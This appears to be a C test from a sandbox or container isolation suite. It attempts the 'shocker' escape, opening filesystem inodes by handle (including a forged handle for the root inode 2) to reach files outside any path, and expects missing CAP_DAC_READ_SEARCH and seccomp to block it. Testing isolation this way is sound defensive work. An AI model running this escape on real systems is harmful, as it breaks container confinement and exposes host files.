/* Opens inodes of the file system by their numbers, past every path (the attack known as "shocker").
 * goal: a file that no path leads to
 * stopped by: no capability of the host's (CAP_DAC_READ_SEARCH); behind it the system call filter
 * first: ids capabilities
 * second: seccomp
 */
#include "attack.h"
int main(void) {
    struct { struct file_handle head; unsigned char rest[MAX_HANDLE_SZ]; } handle = { .head.handle_bytes = MAX_HANDLE_SZ };
    int mount_id;
    const char *const places[] = { "/usr", "/usr/bin/env", "/", "/tmp", "." };
    for (unsigned i = 0; i < sizeof places / sizeof *places; i++) {
        handle.head.handle_bytes = MAX_HANDLE_SZ;
        int known = syscall(SYS_name_to_handle_at, AT_FDCWD, places[i], &handle, &mount_id, 0);
        int place = open(places[i], O_RDONLY | O_CLOEXEC);
        if (known == 0) TRY("a handle was opened", syscall(SYS_open_by_handle_at, place, &handle, O_RDONLY));
        /* The root of most file systems is inode 2. */
        handle.head.handle_bytes = 8, handle.head.handle_type = 1;
        memcpy(handle.rest, (uint32_t[]){ 2, 0 }, 8);
        TRY("the root's inode was opened", syscall(SYS_open_by_handle_at, place, &handle, O_RDONLY));
        close(place);
    }
    return tried();
}
